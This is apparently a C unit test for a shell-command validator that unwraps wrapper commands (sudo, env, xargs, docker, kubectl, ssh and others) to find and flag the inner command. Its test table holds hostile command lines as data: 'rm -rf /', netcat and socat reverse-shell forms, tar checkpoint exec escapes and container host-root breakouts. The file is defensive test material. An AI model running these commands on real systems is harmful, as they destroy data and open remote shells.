/* SPDX-License-Identifier: Apache-2.0 */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>

#include <cmocka.h>

#include "runner/base/mem.h"
#include "runner/base/strbuf.h"
#include "tests/unit/validators/shell_knowledge_words.h"

static void show_words(struct strbuf *out, const struct shell_value *argv, size_t argc)
{
	for (size_t i = 0; i < argc; i++)
		strbuf_addf(out, "%s%s", i ? "|" : "", argv[i].text);
}

/* "argv rm|x +privileged", "text …", "input", "file …", several joined by " ; " */
static void show(struct strbuf *out, const struct wrapper *w, const struct shell_value *argv)
{
	switch (w->kind) {
	case WRAPPER_NONE:
		strbuf_addstr(out, "none");
		break;
	case WRAPPER_ARGV:
		strbuf_addstr(out, "argv ");
		show_words(out, w->argv, w->argc);
		break;
	case WRAPPER_SHELL_TEXT:
		strbuf_addf(out, "text %.*s", (int)w->text.len, w->text.text);
		assert_int_equal(w->text.text[w->text.len], 0);
		break;
	case WRAPPER_SHELL_INPUT:
		strbuf_addstr(out, "input");
		break;
	case WRAPPER_SHELL_FILE:
		strbuf_addf(out, "file %s", argv[w->first].text);
		break;
	}
	if (w->traits & TRAIT_PRIVILEGED)
		strbuf_addstr(out, " +privileged");
	if (w->traits & TRAIT_REMOTE)
		strbuf_addstr(out, " +remote");
	if (w->appends_input)
		strbuf_addf(out, " +appends(%s)", w->placeholder ? w->placeholder : "");
	if (w->changes_root)
		strbuf_addf(out, " root=%s", w->changes_root);
	if (w->environment_len) {
		strbuf_addstr(out, " env=");
		show_words(out, w->environment, w->environment_len);
	}
	if (w->arguments_len) {
		strbuf_addstr(out, " args=");
		show_words(out, w->arguments, w->arguments_len);
	}
}

static const struct {
	const char *line, *expected;
} rows[] = {
	{ "sudo rm x", "argv rm|x +privileged" },
	{ "sudo -u deploy -E nice -n 10 rm x", "argv nice|-n|10|rm|x +privileged" },
	{ "sudo -n -u root -- /usr/bin/rm -rf /", "argv /usr/bin/rm|-rf|/ +privileged" },
	{ "sudo -Eu deploy rm x", "argv rm|x +privileged" },
	{ "sudo --user=deploy rm x", "argv rm|x +privileged" },
	{ "sudo --user deploy rm x", "argv rm|x +privileged" },
	{ "sudo --chroot=/mnt rm x", "argv rm|x +privileged root=/mnt" },
	{ "sudo A=1 B=2 rm x", "argv rm|x +privileged env=A=1|B=2" },
	{ "sudo -s", "input +privileged" },
	{ "sudo -i", "input +privileged" },
	{ "sudo -iu deploy", "input +privileged" },
	{ "sudo -i rm x", "argv rm|x +privileged" },
	{ "sudo -l", "" },
	{ "sudo -v", "" },
	{ "sudo -e /etc/hosts", "" },
	{ "sudo", "" },
	{ "/usr/bin/sudo sh -c 'rm x'", "argv sh|-c|rm x +privileged" },
	{ "doas -u op rm x", "argv rm|x +privileged" },
	{ "doas -s", "input +privileged" },
	{ "pkexec --user op rm x", "argv rm|x +privileged" },
	{ "env rm x", "argv rm|x" },
	{ "env -i PATH=/bin rm -rf /", "argv rm|-rf|/ env=PATH=/bin" },
	{ "env -u HOME -C /tmp A=b rm x", "argv rm|x env=A=b" },
	{ "env - A=b rm x", "argv rm|x env=A=b" },
	{ "env -S 'rm -rf /'", "text rm -rf /" },
	{ "env '-Srm -rf' /", "text rm -rf /" },
	{ "env --split-string='rm -rf' /", "text rm -rf /" },
	{ "env -iS 'rm x'", "text rm x" },
	{ "env", "" },
	{ "env A=b", "" },
	{ "nohup rm x", "argv rm|x" },
	{ "timeout 60 rm -rf /", "argv rm|-rf|/" },
	{ "timeout -s KILL -k 5 60 rm x", "argv rm|x" },
	{ "timeout --signal=KILL --preserve-status 1m rm x", "argv rm|x" },
	{ "timeout -k5 60s rm x", "argv rm|x" },
	{ "timeout 5", "" },
	{ "nice -n 19 ionice -c3 rm x", "argv ionice|-c3|rm|x" },
	{ "nice -19 rm x", "argv rm|x" },
	{ "nice --adjustment=5 rm x", "argv rm|x" },
	{ "ionice -c 2 -n 7 rm x", "argv rm|x" },
	{ "ionice -p 12", "" },
	{ "chrt -f 99 rm x", "argv rm|x" },
	{ "chrt -p 12", "" },
	{ "taskset -c 0,1 rm x", "argv rm|x" },
	{ "taskset 0x3 rm x", "argv rm|x" },
	{ "setsid -w rm x", "argv rm|x" },
	{ "stdbuf -oL -e 0 rm x", "argv rm|x" },
	{ "unbuffer -p rm x", "argv rm|x" },
	{ "time -p rm x", "argv rm|x" },
	{ "time -f %e -o out rm x", "argv rm|x" },
	{ "command rm x", "argv rm|x" },
	{ "command -p rm x", "argv rm|x" },
	{ "command -v rm", "" },
	{ "command -V rm", "" },
	{ "builtin echo x", "argv echo|x" },
	{ "exec rm x", "argv rm|x" },
	{ "exec -a ls rm x", "argv rm|x" },
	{ "exec -cl rm x", "argv rm|x" },
	{ "exec", "" },
	{ "xargs rm -rf", "argv rm|-rf +appends()" },
	{ "xargs -0 -n1 rm -rf", "argv rm|-rf +appends()" },
	{ "xargs -I % sh -c %", "argv sh|-c|% +appends(%)" },
	{ "xargs -I{} -P 4 rm {}", "argv rm|{} +appends({})" },
	{ "xargs -i rm {}", "argv rm|{} +appends({})" },
	{ "xargs --replace=@ rm @", "argv rm|@ +appends(@)" },
	{ "xargs --max-args=1 --no-run-if-empty rm", "argv rm +appends()" },
	{ "xargs -d '\\n' -L 1 rm", "argv rm +appends()" },
	{ "xargs", "" },
	{ "find / -exec rm -rf {} ;", "argv rm|-rf|{} +appends({})" },
	{ "find / -type f -exec rm {} + -o -execdir chmod 777 {} ;", "argv rm|{} +appends({}) ; argv chmod|777|{} +appends({})" },
	{ "find . -ok rm {} ; -okdir ls ;", "argv rm|{} +appends({}) ; argv ls +appends({})" },
	{ "find . -name x", "" },
	{ "find . -exec", "" },
	{ "find . -exec rm {}", "argv rm|{} +appends({})" },
	{ "find . -exec expr 1 + 2 ;", "argv expr|1|+|2 +appends({})" },
	{ "fd -e txt -x rm", "argv rm +appends({})" },
	{ "parallel rm -rf ::: / /etc", "text rm -rf / /etc" },
	{ "parallel rm -rf {} ::: / /etc", "text rm -rf /\nrm -rf /etc" },
	{ "parallel -j 4 'rm -rf {}' ::: /a", "text rm -rf /a" },
	{ "parallel ::: 'rm x' 'rm y'", "text rm x\nrm y" },
	{ "parallel -j 2 rm -f", "argv rm|-f +appends({})" },
	{ "parallel -0 'rm {}; ls'", "text rm {}; ls +appends({})" },
	{ "/lib64/ld-linux-x86-64.so.2 --preload x /bin/rm y", "argv /bin/rm|y" },
	{ "parallel", "input" },
	{ "parallel -S host rm ::: x", "text rm x +remote" },
	{ "busybox rm -rf /", "argv rm|-rf|/" },
	{ "toybox rm x", "argv rm|x" },
	{ "strace -f -o out rm x", "argv rm|x" },
	{ "ltrace -o out rm x", "argv rm|x" },
	{ "gdb -q --args rm x", "argv rm|x" },
	{ "gdb prog", "" },
	{ "valgrind --leak-check=full rm x", "argv rm|x" },
	{ "perf stat -e cycles rm x", "argv rm|x" },
	{ "unshare -Urm sh", "argv sh" },
	{ "unshare --user --map-root-user --mount --net bash -c 'x y'", "argv bash|-c|x y" },
	{ "unshare -r", "input" },
	{ "unshare -R /mnt rm x", "argv rm|x root=/mnt" },
	{ "chroot /host rm x", "argv rm|x root=/host" },
	{ "chroot --userspec=a:b /host sh -c x", "argv sh|-c|x root=/host" },
	{ "chroot /host", "input root=/host" },
	{ "nsenter -t 1 -m -u -i -n -p sh", "argv sh" },
	{ "nsenter --target 1 --mount --pid -- bash", "argv bash" },
	{ "nsenter -t1 -a", "input" },
	{ "setpriv --reuid 1000 --clear-groups rm x", "argv rm|x" },
	{ "runuser -u deploy -- rm x", "argv rm|x +privileged" },
	{ "runuser -u deploy rm x", "argv rm|x +privileged" },
	{ "runuser -l deploy -c 'rm x'", "text rm x +privileged" },
	{ "su -c 'rm x'", "text rm x +privileged" },
	{ "su - deploy -c 'rm x'", "text rm x +privileged" },
	{ "su -l deploy --command='rm x'", "text rm x +privileged" },
	{ "su deploy -s /bin/sh -c 'rm x'", "text rm x +privileged" },
	{ "su -c'rm x' deploy", "text rm x +privileged" },
	{ "su root -- -c 'rm x'", "text rm x +privileged" },
	{ "su -", "input +privileged" },
	{ "su", "input +privileged" },
	{ "su - deploy script.sh", "file script.sh +privileged args=script.sh" },
	{ "sg docker -c 'rm x'", "text rm x" },
	{ "watch -n1 'rm -rf /srv'", "text rm -rf /srv" },
	{ "watch -n 5 -d rm x", "text rm x" },
	{ "flock /tmp/l -c 'rm x'", "text rm x" },
	{ "flock -n /tmp/l rm x", "argv rm|x" },
	{ "flock -w 5 /tmp/l --command='rm x'", "text rm x" },
	{ "flock 9", "" },
	{ "script -qc 'rm x' /dev/null", "text rm x" },
	{ "script -q -c 'rm x'", "text rm x" },
	{ "script out.log", "input" },
	{ "systemd-run --user -p X=y --unit u rm x", "argv rm|x" },
	{ "systemd-run -t --shell", "input" },
	{ "firejail --net=none rm x", "argv rm|x" },
	{ "bwrap --ro-bind / / --dev /dev --setenv A b rm x", "argv rm|x" },
	{ "bwrap --bind / / --unshare-all -- rm x", "argv rm|x" },
	{ "proot -r /mnt -b /dev rm x", "argv rm|x root=/mnt" },
	{ "fakeroot rm x", "argv rm|x" },
	{ "fakeroot -- rm x", "argv rm|x" },
	{ "torsocks curl x", "argv curl|x" },
	{ "proxychains4 -q -f c.conf curl x", "argv curl|x" },
	{ "caffeinate -t 60 rm x", "argv rm|x" },
	{ "catchsegv rm x", "argv rm|x" },
	{ "eatmydata rm x", "argv rm|x" },
	{ "cpulimit -l 50 -- rm x", "argv rm|x" },
	{ "cpulimit -p 12 -l 5", "" },
	{ "cgexec -g cpu:a --sticky rm x", "argv rm|x" },
	{ "ip netns exec blue rm x", "argv rm|x" },
	{ "ip -n x netns exec blue rm x", "argv rm|x" },
	{ "ip addr show", "" },
	{ "tini -- rm x", "argv rm|x" },
	{ "gosu app rm x", "argv rm|x" },
	{ "su-exec app rm x", "argv rm|x" },
	{ "start-stop-daemon --start --exec /bin/rm -- -rf /", "argv /bin/rm|-rf|/" },
	{ "start-stop-daemon --stop --exec /bin/rm", "" },
	{ "sshpass -p x ssh h rm", "argv ssh|h|rm" },
	{ "npx -c 'rm x'", "text rm x" },
	{ "poetry run rm x", "argv rm|x" },
	{ "bundle exec rm x", "argv rm|x" },
	{ "conda run -n env rm x", "argv rm|x" },
	{ "aws-vault exec prod -- rm x", "argv rm|x" },
	{ "nix-shell -p curl --run 'rm x'", "text rm x" },
	{ "direnv exec . rm x", "argv rm|x" },
	{ "git submodule foreach 'rm x'", "text rm x" },
	{ "git -C d bisect run rm x", "argv rm|x" },
	{ "git rebase -x 'rm x' main", "text rm x" },
	{ "git filter-branch --tree-filter 'rm x' HEAD", "text rm x" },
	{ "git status", "" },
	{ "docker run alpine rm x", "argv rm|x +remote" },
	{ "docker run --rm -it -v /:/host --name n alpine:3.19 chroot /host sh", "argv chroot|/host|sh +remote" },
	{ "docker run -d --network none alpine", "" },
	{ "docker run --privileged=true --net=host ubuntu bash", "argv bash +remote" },
	{ "docker run --entrypoint sh alpine -c 'rm x'", "argv sh|-c|rm x +remote" },
	{ "docker run --entrypoint=sh alpine", "argv sh +remote" },
	{ "docker -H tcp://x run -eA=b -p 80:80 img rm x", "argv rm|x +remote" },
	{ "docker container run --rm img rm x", "argv rm|x +remote" },
	{ "docker exec -it -u 0 web rm x", "argv rm|x +remote" },
	{ "docker exec web sh -c 'rm x'", "argv sh|-c|rm x +remote" },
	{ "docker compose -f c.yml exec -T web rm x", "argv rm|x +remote" },
	{ "docker compose run --rm -e A=b web rm x", "argv rm|x +remote" },
	{ "docker-compose exec web rm x", "argv rm|x +remote" },
	{ "podman run --rm img rm x", "argv rm|x +remote" },
	{ "nerdctl -n k8s.io exec c rm x", "argv rm|x +remote" },
	{ "docker create img rm x", "argv rm|x +remote" },
	{ "docker ps", "" },
	{ "docker build -t x .", "" },
	{ "kubectl exec web-0 -- rm x", "argv rm|x +remote" },
	{ "kubectl -n shop exec -it web-0 -c app -- sh -c 'rm x'", "argv sh|-c|rm x +remote" },
	{ "kubectl exec -n shop deploy/web --container=app -- rm x", "argv rm|x +remote" },
	{ "kubectl exec web-0 rm x", "argv rm|x +remote" },
	{ "kubectl run t --image=alpine --restart=Never -it --rm --command -- rm x", "argv rm|x +remote" },
	{ "kubectl run t --image alpine -- rm x", "argv rm|x +remote" },
	{ "kubectl debug node/n -it --image=alpine -- chroot /host", "argv chroot|/host +remote" },
	{ "kubectl get pods", "" },
	{ "oc rsh web-0 rm x", "argv rm|x +remote" },
	{ "k3s kubectl exec w -- rm x", "argv rm|x +remote" },
	{ "crictl exec -it abc rm x", "argv rm|x +remote" },
	{ "ctr -n k8s.io task exec --exec-id 1 abc rm x", "argv rm|x +remote" },
	{ "lxc exec c1 -- rm x", "argv rm|x +remote" },
	{ "incus exec c1 --env A=b -- rm x", "argv rm|x +remote" },
	{ "vagrant ssh -c 'rm x'", "text rm x +remote" },
	{ "vagrant ssh web --command 'rm x'", "text rm x +remote" },
	{ "gcloud compute ssh vm --zone z --command='rm x'", "text rm x +remote" },
	{ "adb shell rm x", "text rm x +remote" },
	{ "ssh host rm -rf x", "text rm -rf x +remote" },
	{ "ssh -p 22 -i key -o A=b user@host 'rm x'", "text rm x +remote" },
	{ "ssh -tt host -p 22 sudo rm x", "text sudo rm x +remote" },
	{ "ssh -o 'ProxyCommand=nc -e sh h' host", "text nc -e sh h ; input +remote" },
	{ "ssh -N -L 80:h:80 host", "" },
	{ "ssh host", "input +remote" },
	{ "ssh host bash -s", "text bash -s +remote" },
	{ "ssh", "" },
	{ "ansible all -m shell -a 'rm x'", "text rm x +remote" },
	{ "ansible all -a 'rm x'", "text rm x +remote" },
	{ "ansible all -m copy -a 'src=x'", "" },
	{ "salt '*' cmd.run 'rm x'", "text rm x +remote" },
	{ "sh -c 'rm x'", "text rm x" },
	{ "bash -lc 'rm x'", "text rm x" },
	{ "bash -ec 'rm x' a b", "text rm x args=a|b" },
	{ "bash -o pipefail -c 'rm x'", "text rm x" },
	{ "bash -euo pipefail -c 'rm x'", "text rm x" },
	{ "bash -c -e 'rm x'", "text rm x" },
	{ "bash --norc --login -c 'rm x'", "text rm x" },
	{ "bash --rcfile f -c 'rm x'", "text rm x" },
	{ "bash +x -c 'rm x'", "text rm x" },
	{ "bash -c -- 'rm x'", "text rm x" },
	{ "bash -c", "" },
	{ "sh -c '?${X}'", "text ${X}" },
	{ "/bin/sh -c 'rm x'", "text rm x" },
	{ "-bash -c 'rm x'", "text rm x" },
	{ "zsh -fc 'rm x'", "text rm x" },
	{ "fish -c 'rm x'", "text rm x" },
	{ "fish --command='rm x'", "text rm x" },
	{ "ash -c x", "text x" },
	{ "sh", "input" },
	{ "sh -x", "input" },
	{ "bash -i", "input" },
	{ "bash -", "input args=-" },
	{ "bash -s", "input" },
	{ "bash -s a b", "input args=-s|a|b" },
	{ "bash -s -- --yes", "input args=--|--yes" },
	{ "sh /dev/stdin", "input args=/dev/stdin" },
	{ "sh x.sh a b", "file x.sh args=x.sh|a|b" },
	{ "bash -x ./x.sh", "file ./x.sh args=./x.sh" },
	{ "bash --version", "" },
	{ ". ./x.sh", "file ./x.sh args=./x.sh" },
	{ "source x.sh a", "file x.sh args=x.sh|a" },
	{ ". /dev/stdin", "input args=/dev/stdin" },
	{ "source", "" },
	{ "eval rm x", "text rm x" },
	{ "eval 'rm x' y", "text rm x y" },
	{ "eval -- 'rm x'", "text rm x" },
	{ "eval", "" },
	{ "trap 'rm x' EXIT", "text rm x" },
	{ "trap -- 'rm x' INT TERM", "text rm x" },
	{ "trap - INT", "" },
	{ "trap '' INT", "" },
	{ "trap -p", "" },
	{ "trap INT", "" },
	{ "alias l='rm x' m=ls", "text rm x ; text ls" },
	{ "alias", "" },
	{ "alias l", "" },
	{ "nc -e /bin/sh h 4444", "text /bin/sh" },
	{ "nc -lvp 4444 -e /bin/bash", "text /bin/bash" },
	{ "nc -l -p 9999 -c 'sh -i'", "text sh -i" },
	{ "ncat -lk 4444 --sh-exec 'bash -i'", "text bash -i" },
	{ "nc -c -z h 443", "" },
	{ "nc h 80", "" },
	{ "socat TCP:h:4 EXEC:/bin/sh", "text /bin/sh" },
	{ "socat 'exec:bash -li,pty,stderr' tcp:h:4", "text bash -li" },
	{ "socat TCP-LISTEN:1,fork 'SYSTEM:\"rm x, y\"'", "text rm x, y" },
	{ "socat EXEC:a SYSTEM:b", "text a ; text b" },
	{ "socat - TCP:h:80", "" },
	{ "xterm -e rm x", "argv rm|x" },
	{ "xterm -e 'rm x'", "text rm x" },
	{ "gnome-terminal -- rm x", "argv rm|x" },
	{ "tmux new-session -d -s n 'rm x'", "text rm x" },
	{ "tmux new -d rm x", "text rm x" },
	{ "tmux send-keys -t n 'rm x' Enter", "text rm x" },
	{ "tmux attach", "" },
	{ "screen -dmS n rm x", "argv rm|x" },
	{ "screen -S n -X stuff 'rm x'", "text rm x" },
	{ "screen -r n", "" },
	{ "tar cf /dev/null x --checkpoint=1 --checkpoint-action=exec='sh -c id'", "text sh -c id" },
	{ "tar -I 'sh -c id' -cf a b", "text sh -c id" },
	{ "tar xzf a.tgz", "" },
	{ "rsync -e 'sh -c id' a b:", "text sh -c id" },
	{ "at now + 1 minute", "input" },
	{ "at -f job.sh noon", "file job.sh" },
	{ "at -l", "" },
	{ "batch", "input" },
	{ "crontab -l", "" },
	{ "rm x", "" },
	{ "?${X} rm", "" },
	{ "sudo ?${X}", "argv ${X} +privileged" },
	{ "kubectl --namespace shop exec web-0 -- rm x", "argv rm|x +remote" },
	{ "timeout --sig KILL 5 rm x", "argv rm|x" },
	{ "xvfb-run -a rm x", "argv rm|x" },
	{ "capsh --drop=all -- -c 'rm x'", "text rm x" },
	{ "nc -ll -p 31337 -e sh", "text sh" },
	{ "hyperfine -w 3 'rm x'", "text rm x" },
	{ "sops exec-env f.yml 'rm x'", "text rm x" },
	{ "prlimit --nofile=5 rm x", "argv rm|x" },
	{ "lxc-attach -n c -- rm x", "argv rm|x +remote" },
	{ "machinectl shell root@c /bin/rm x", "argv /bin/rm|x +remote" },
	{ "runc exec c rm x", "argv rm|x +remote" },
	{ "buildah run c -- rm x", "argv rm|x +remote" },
	{ "pdsh -w a,b rm x", "text rm x +remote" },
};

static void finds_the_command(void **state)
{
	size_t failed = 0;

	(void)state;
	for (size_t i = 0; i < ARRAY_SIZE(rows); i++) {
		autoarena struct arena arena = ARENA_INIT;
		autostrbuf struct strbuf out = STRBUF_INIT(STRBUF_NO_MAX);
		struct shell_value argv[TEST_MAX_WORDS];
		size_t argc = test_words(&arena, rows[i].line, argv);
		struct wrapper w;

		for (size_t n = 0; n < 8 && knowledge_wrapper(&arena, argv, argc, n, &w); n++) {
			if (n)
				strbuf_addstr(&out, " ; ");
			assert_true(w.first <= w.last && w.last < argc);
			show(&out, &w, argv);
		}
		if (!strcmp(out.buf, rows[i].expected))
			continue;
		print_error("%s\n  is       %s\n  expected %s\n", rows[i].line, out.buf, rows[i].expected);
		failed++;
	}
	assert_int_equal(failed, 0);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(finds_the_command),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
